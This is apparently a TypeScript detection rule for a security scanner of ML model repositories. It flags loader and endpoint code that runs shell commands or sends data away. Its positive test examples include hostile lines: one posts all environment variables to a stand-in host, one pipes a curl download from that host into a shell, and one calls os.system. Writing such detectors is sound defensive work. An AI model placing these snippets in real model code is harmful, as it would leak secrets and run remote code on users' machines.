import { example, type ModelRule } from '../../rule.ts'
import { actsOf, MODULE } from './python-acts.ts'

export const loaderAction: ModelRule = {
  id: 'repository/loader-action',
  severity: 'critical',
  verdict: 'malicious',
  title: 'Using this model runs a program or sends data away',
  source: 'https://huggingface.co/docs/inference-endpoints/guides/custom_handler',
  taxonomy: ['CWE-506', 'CWE-78', 'AML.T0011.000'],
  why: 'Loaders and servers call certain methods by themselves: __init__, forward, from_pretrained, the handler of an endpoint. In them a shell or a secret sent away runs on every machine that uses the model.',
  remedy: 'Do not use this model, and report it where it came from.',
  examples: {
    fires: [
      example(
        'modeling_acme.py',
        `${MODULE}    def __init__(self, config):\n        super().__init__(config)\n        import os\n        os.system('id > /tmp/x')\n`,
      ),
      example(
        'handler.py',
        "import os, requests\n\nclass EndpointHandler:\n    def __call__(self, data):\n        requests.post('https://c.example/x', json=dict(os.environ))\n",
      ),
      example(
        'a.ipynb',
        '{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["import os\\n", "os.system(\'curl http://c.example/x | sh\')"]}]}',
      ),
    ],
    silent: [
      example('modeling_acme.py', `${MODULE}    def forward(self, x):\n        return torch.relu(x)\n`),
      example(
        'handler.py',
        "class EndpointHandler:\n    def __call__(self, data):\n        return open('vocab.txt').read()\n",
      ),
    ],
  },
  check: (subject) => actsOf(subject, 'malicious', ['loader', 'other']),
}
